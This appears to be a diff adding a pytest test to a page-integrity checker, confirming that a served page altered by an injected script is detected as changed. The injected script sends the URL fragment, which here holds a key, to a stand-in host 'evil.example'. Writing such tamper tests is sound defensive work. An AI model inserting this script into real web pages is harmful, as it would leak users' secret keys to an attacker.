@@ -120,6 +120,16 @@ def test_only_what_is_needed_is_fetched() -> None:
         assert web.sent < padding // 2
 
 
+@pytest.mark.parametrize("how", ["plain", "attached"])
+def test_a_changed_page_is_told(how: str) -> None:
+    """One that sends the key away, say: by its hash, wherever the change is, whatever was filled in."""
+    page = attached_page(vector("file")) if how == "attached" else PAGE
+    changed = page.replace(b"</title>", b"</title><script>fetch('//evil.example/' + location.hash)</script>", 1)
+    for served, right in ((page, True), (changed, False), (b"<h1>another page</h1>", False)):
+        with contextlib.closing(Web(served, parts=False)) as web:
+            assert verify_page(web.url).right is right
+
+
 @pytest.mark.parametrize("change", ["cut", "longer", "altered"])
 def test_nothing_wrong_gets_a_name(change: str, tmp_path: Path) -> None:
     found = vector("file_two_segments")
